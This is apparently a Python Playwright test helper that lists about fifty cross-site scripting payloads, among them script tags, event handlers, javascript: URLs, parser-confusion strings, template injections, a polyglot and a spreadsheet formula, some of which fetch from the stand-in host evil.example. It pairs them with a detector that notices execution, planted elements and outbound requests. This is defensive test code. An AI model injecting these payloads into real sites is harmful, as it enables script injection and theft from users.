"""What people write who want their words to run in somebody else's browser, and how a test notices that they did.

Each payload calls `ran(n)` by another way, or fetches from evil.example: tags, attributes, addresses with a scheme of their
own, what parsers turn into something else, templates, and words that only look like something.
"""

from __future__ import annotations

from typing import Any

from playwright.async_api import BrowserContext, Page

EVIL = "evil.example"

PAYLOADS = [
    "<script>ran(0)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=ran(2)>",
    "<img src=https://evil.example/pixel.png>",
    '"><svg/onload=ran(4)>',
    "'><svg onload=ran(5)>",
    "<svg><script>ran(6)</script></svg>",
    "<svg><animate onbegin=ran(7) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>ran(8)</script></svg>#x'>",
    "<iframe src=javascript:parent.ran(9)>",
    "<iframe srcdoc='<script>parent.ran(10)</script>'>",
    "<object data=//evil.example/x.swf>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input type=submit autofocus onfocus=ran(17)>",
    "<body onload=ran(18)>",
    "<details open ontoggle=ran(19)>",
    "<video><source onerror=ran(20)></video>",
    "<audio src=x onerror=ran(21)>",
    "<input autofocus onfocus=ran(22)>",
    "<marquee onstart=ran(23)>",
    "<a href=javascript:ran(24)>press me</a>",
    "javascript:ran(25)",
    "JaVaScRiPt:ran(26)//https://shop.example",
    "java\tscript:ran(27)",
    "\x01javascript:ran(28)",
    "data:text/html,<script>ran(29)</script>",
    "vbscript:ran(30)",
    "https://shop.example/\"onmouseover=\"ran(31)",
    "https://shop.example/'onclick='ran(32)",
    "https://shop.example@evil.example/",
    "<noscript><p title=\"</noscript><img src=x onerror=ran(34)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=ran(35)&gt;\">",
    "<template><img src=x onerror=ran(36)></template>",
    "</title></textarea></style></script><script>ran(37)</script>",
    "<!--><img src=x onerror=ran(38)>-->",
    "&lt;img src=x onerror=ran(39)&gt;",
    "&#60;script&#62;ran(40)&#60;/script&#62;",
    "\\u003cimg src=x onerror=ran(41)\\u003e",
    "{{constructor.constructor('ran(42)')()}}",
    "${ran(43)}",
    "#{ran(44)} <%= ran(44) %>",
    "[press me](javascript:ran(45))",
    "![](https://evil.example/pixel.png)",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */ran(47))//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=ran(47)//>",
    "\u202egnp.exe\u2066 \u200b<img src=x onerror=ran(48)>",
    "=HYPERLINK(\"https://evil.example\",\"press me\")",
    "__proto__[ran]=1 constructor.prototype",
]  # fmt: skip

_WATCH = """(() => {
    window.traces = []
    window.ran = (n) => window.traces.push(`payload ${n} ran`)
    window.alert = window.prompt = window.confirm = () => window.traces.push('a dialog')
    addEventListener('securitypolicyviolation', (one) => window.traces.push(`the policy stopped ${one.blockedURI}`))
})()"""

_PLANTED = """() => {
    const found = []
    const look = (root) => {
        for (const one of root.querySelectorAll('*')) {
            if (one.shadowRoot) look(one.shadowRoot)
            for (const { name, value } of one.attributes) {
                if (name.startsWith('on')) found.push(`<${one.localName} ${name}>`)
                // What follows a "?" or "#" of our own address names nobody, and a link to evil.example is a link as any other.
                const loads = ['src', 'srcset', 'srcdoc', 'data', 'action', 'formaction', 'poster', 'background'].includes(name)
                if (loads && value.includes('evil.example')) found.push(`<${one.localName} ${name}=${value}>`)
                if (['href', 'xlink:href', 'src', 'action', 'formaction'].includes(name)) {
                    const scheme = /^[\\0-\\x20]*([a-z][a-z0-9+.\\s-]*):/i.exec(value)?.[1].replace(/\\s/g, '').toLowerCase()
                    const fine = ['http', 'https', 'mailto', 'tel', 'blob']
                    const drawn = scheme === 'data' && name === 'src' && value.startsWith('data:image/')
                    if (scheme && !fine.includes(scheme) && !drawn) found.push(`<${one.localName} ${name}=${value}>`)
                }
            }
            const foreign = ['iframe', 'object', 'embed', 'base', 'marquee', 'template']
            // The panel's own pictures of pages are frames without an address, or frames that may do nothing but draw.
            const ours = one.localName === 'iframe' && !one.srcdoc && ['', '/look.html'].includes(one.getAttribute('src') ?? '')
            if (foreign.includes(one.localName) && !ours) found.push(`<${one.localName}>`)
        }
    }
    look(document.body)
    for (const frame of document.querySelectorAll('iframe')) if (frame.contentDocument?.body) look(frame.contentDocument.body)
    return [...window.traces, ...found]
}"""


class Watchman:
    """Notices when something that people wrote runs, is planted in a page, or fetches from evil.example."""

    def __init__(self) -> None:
        self.fetched: list[str] = []

    async def watch(self, context: BrowserContext) -> None:
        """Watch all pages of a window from here on; what is open has to be loaded again."""
        await context.add_init_script(_WATCH)
        context.on("request", lambda request: EVIL in request.url.split("?")[0] and self.fetched.append(request.url))

    async def seen(self, page: Page) -> list[Any]:
        """Return what has happened in a page by now that should not."""
        return await page.evaluate(_PLANTED) + self.fetched
